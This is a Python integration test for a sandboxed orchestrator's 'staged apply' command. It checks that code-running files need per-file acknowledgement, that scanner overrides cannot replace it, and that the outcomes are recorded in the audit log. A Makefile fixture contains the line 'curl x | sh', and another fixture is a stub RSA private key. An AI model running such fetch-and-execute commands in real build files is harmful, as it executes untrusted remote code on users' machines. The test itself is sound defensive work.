"""``orchestrator staged apply``: files that run code by themselves need ``--ack-sensitive``
each, and ``--override-scanners`` never stands in for it (the same rule as ``clear``).

Through the real console entry point, on a real project, store and scanners."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from orchestrator.audit import AuditFilter, AuditLog
from orchestrator.config import load_project
from orchestrator.runtime.outbox import change_store
from tests.unit.test_clearance_fakes import stage_real

ENTRY = Path(os.environ.get("VIRTUAL_ENV", Path(__file__).parents[2] / ".venv")) / "bin"
KEY = b"-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\n"


def orchestrator(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(ENTRY / "orchestrator"), *args], capture_output=True, text=True, timeout=60
    )


def setup(project, tmp_path, files: dict[str, bytes]) -> tuple[Path, str]:
    notes = project.zone("notes", "rw", files={"keep.md": "kept\n"})
    project.worker(
        "editor",
        'command: ["true"]\ntrust: session\n'
        "sandbox: {zones: [{name: notes, mode: rw, approval: {write: ask}}]}",
    )
    store = change_store(load_project(project.root))
    change_id = stage_real(store.root, tmp_path / "work", new=files, worker="editor", zone="notes")
    return notes, change_id


def test_override_never_passes_files_that_run_code(project, tmp_path):
    files = {"Makefile": b"all:\n\tcurl x | sh\n", "conftest.py": b"import os\n", "a.md": b"a\n"}
    notes, change_id = setup(project, tmp_path, files)
    apply = ("staged", "apply", change_id, "--yes", "--project", str(project.root))
    shown = orchestrator("staged", "show", change_id, "--project", str(project.root))
    assert "applying    needs --ack-sensitive Makefile --ack-sensitive conftest.py" in (
        shown.stdout + shown.stderr
    )
    for extra in (
        (),
        ("--override-scanners",),
        ("--override-scanners", "--ack-sensitive", "Makefile"),
    ):
        refused = orchestrator(*apply, *extra)
        assert refused.returncode == 125, refused.stderr
        [line] = [x for x in refused.stderr.splitlines() if x.startswith("orchestrator: error:")]
        assert "--ack-sensitive conftest.py" in line
        assert "--override-scanners does not cover them" in line
        assert ("--ack-sensitive Makefile" in line) == ("Makefile" not in extra)
    wrong = orchestrator(*apply, "--ack-sensitive", "Makefile", "--ack-sensitive", "conftest.py",
                         "--ack-sensitive", "a.md")  # fmt: skip
    assert wrong.returncode == 125
    assert "--ack-sensitive a.md names no file of it that runs code" in wrong.stderr
    assert sorted(p.name for p in notes.iterdir()) == ["keep.md"]
    done = orchestrator(*apply, "--ack-sensitive", "Makefile", "--ack-sensitive", "conftest.py")
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in notes.iterdir()) == ["Makefile", "a.md", "conftest.py", "keep.md"]
    audit = AuditLog(load_project(project.root).sandbox_root / "audit.jsonl")
    [ack] = audit.query(AuditFilter(operation="change.acknowledged"))
    assert sorted(ack.metadata["paths"]) == ["Makefile", "conftest.py"]
    assert not audit.query(AuditFilter(operation="change.override"))
    refused = audit.query(AuditFilter(operation="change.refused"))
    assert len(refused) == 4 and not any(e.allowed for e in refused)


def test_other_findings_still_need_the_override_as_well(project, tmp_path):
    notes, change_id = setup(project, tmp_path, {"Makefile": b"all:\n", "key.md": KEY})
    apply = ("staged", "apply", change_id, "--yes", "--project", str(project.root))
    acked = orchestrator(*apply, "--ack-sensitive", "Makefile")
    assert acked.returncode == 125
    assert "scanners secrets failed" in acked.stderr or "--override-scanners" in acked.stderr
    assert sorted(p.name for p in notes.iterdir()) == ["keep.md"]
    done = orchestrator(*apply, "--ack-sensitive", "Makefile", "--override-scanners")
    assert done.returncode == 0, done.stderr
    assert (notes / "key.md").read_bytes() == KEY
    audit = AuditLog(load_project(project.root).sandbox_root / "audit.jsonl")
    assert audit.query(AuditFilter(operation="change.override"))
    assert audit.query(AuditFilter(operation="change.acknowledged"))
